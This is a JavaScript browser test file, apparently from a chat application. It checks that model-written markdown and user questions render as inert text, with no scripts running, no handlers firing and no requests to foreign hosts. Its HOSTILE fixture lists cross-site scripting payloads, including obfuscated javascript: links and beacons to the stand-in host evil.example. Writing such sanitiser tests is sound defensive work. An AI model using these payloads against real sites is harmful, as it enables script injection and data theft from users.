// What a model writes is not trusted. The watch over every page fails a test for a request to
// another host, a dialog, an error or a breach of the policy; here somebody tries.
import assert from "node:assert/strict";
import { eventually } from "../harness/eventually.mjs";
import { end, pieces, whole } from "../harness/provider.mjs";
import { test } from "../harness/tests.mjs";

const HOSTILE = [
  "<script>window.ran = 1; fetch('http://evil.example/a')</script>\n\n",
  '<img src="http://evil.example/b.png" onerror="window.ran = 2">\n\n',
  '<svg onload="window.ran = 3"><image href="http://evil.example/c.svg"/></svg>\n\n',
  '<iframe src="http://evil.example/d"></iframe><style>@import "http://evil.example/e.css";</style>\n\n',
  '<a href="javascript:window.ran=4" onclick="window.ran=5">raw</a> <details open ontoggle="window.ran=6">\n\n',
  "![beacon](http://evil.example/f.png?secret) ![x](data:image/svg+xml,<svg/onload=alert(1)>)\n\n",
  "[one](javascript:window.ran=7) [two](JaVaScRiPt:window.ran=8) [three](data:text/html,<script>window.ran=9</script>)\n",
  "[four](vbscript:x) [five](&#106;avascript:window.ran=10) [six](java\\nscript:window.ran=11) [seven](//evil.example/g)\n\n",
  "<javascript:window.ran=12> [eight][ref]\n\n[ref]: javascript:window.ran=13\n\n",
  "$\\href{javascript:window.ran=14}{x}$ $\\includegraphics{http://evil.example/h.png}$ $\\htmlData{a=b}{x}$\n\n",
  '```html"onmouseover="window.ran=15\n<script>window.ran = 16</script>\n```\n\n',
  '| <img src=x onerror="window.ran=17"> |\n|---|\n| [nine](javascript:window.ran=18) |\n',
].join("");

test("hostile markdown runs nothing, asks nothing and links nowhere it should not", async ({
  open,
  provider,
}) => {
  const question = await provider.answers([...pieces(HOSTILE, 2, 7), ...end()]);
  const visitor = await open();
  await visitor.askWhole(question);
  const found = await visitor.answer.evaluate((answer) => ({
    elements: [
      ...answer.querySelectorAll(
        "script, img, iframe, style, image, object, embed, form, input:not([type=checkbox])",
      ),
    ].map((node) => node.outerHTML),
    handlers: [...answer.querySelectorAll("*")].flatMap((node) =>
      node.getAttributeNames().filter((name) => name.startsWith("on")),
    ),
    hrefs: [...answer.querySelectorAll("[href], [*|href]")].map((node) =>
      node.getAttribute("href"),
    ),
  }));
  assert.deepEqual(found.elements, []);
  assert.deepEqual(found.handlers, []);
  for (const href of found.hrefs) assert.match(href, /^(https?|mailto):/);
  for (const link of await visitor.answer
    .getByText(/^(one|two|three|four|five|six|eight|nine|raw|x)$/)
    .all()) {
    if (await link.isVisible()) await link.click({ timeout: 2_000, force: true });
  }
  assert.equal(await visitor.page.evaluate(() => window.ran), undefined);
  assert.match(await visitor.text(), /<script>window\.ran = 1/, "it is shown as the text it is");
  await visitor.page.reload();
  await visitor.ended();
  assert.equal(await visitor.page.evaluate(() => window.ran), undefined);
});

test("a hostile question is shown as written, in the thread, the list and the title", async ({
  open,
  provider,
}) => {
  const marker = await provider.answers(whole("Yes."));
  const question = `<img src=x onerror="window.ran=1"> ${marker}`;
  const visitor = await open();
  await visitor.askWhole(question);
  assert.equal(await visitor.questions.locator(".user-text").textContent(), question);
  assert.match((await visitor.titles())[0], /^<img src=x/);
  await visitor.page.reload();
  await visitor.shows("Yes.");
  assert.equal(await visitor.page.evaluate(() => window.ran), undefined);
});

test("the watch notices a request to another host, an error, and a breach of the policy", async ({
  open,
  problems,
}) => {
  const visitor = await open();
  await visitor.page.evaluate(() => {
    setTimeout(() => {
      throw new Error("planted");
    });
    const image = new Image();
    image.src = "http://evil.example/planted.png";
    document.body.append(image);
  });
  const wanted = [/thrown: .*planted/s, /policy: img-src http:\/\/evil\.example/];
  await eventually(
    () => wanted.every((pattern) => problems.some((text) => pattern.test(text))),
    "both are noticed",
  );
  problems.length = 0;
});
